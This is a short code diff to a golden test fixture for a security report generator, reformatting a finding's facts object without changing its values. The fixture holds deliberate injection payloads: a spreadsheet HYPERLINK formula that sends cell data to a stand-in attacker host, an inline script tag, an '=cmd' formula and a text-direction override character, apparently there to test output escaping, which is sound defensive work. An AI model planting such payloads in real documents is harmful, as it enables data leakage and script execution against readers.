@@ -37,7 +37,11 @@ export const goldenReport = report(
       title: 'Description of a service-linked role changed',
       severity: 'info',
       time: '2026-05-02T10:00:00Z',
-      facts: { description: '=HYPERLINK("https://evil.example/?"&A1)<script>alert(1)</script>', tagged: false, by: null },
+      facts: {
+        description: '=HYPERLINK("https://evil.example/?"&A1)<script>alert(1)</script>',
+        tagged: false,
+        by: null,
+      },
       explanation: '=cmd, "quoted" & <b>bold</b>\nwith \u202ea second line.',
     }),
   ],
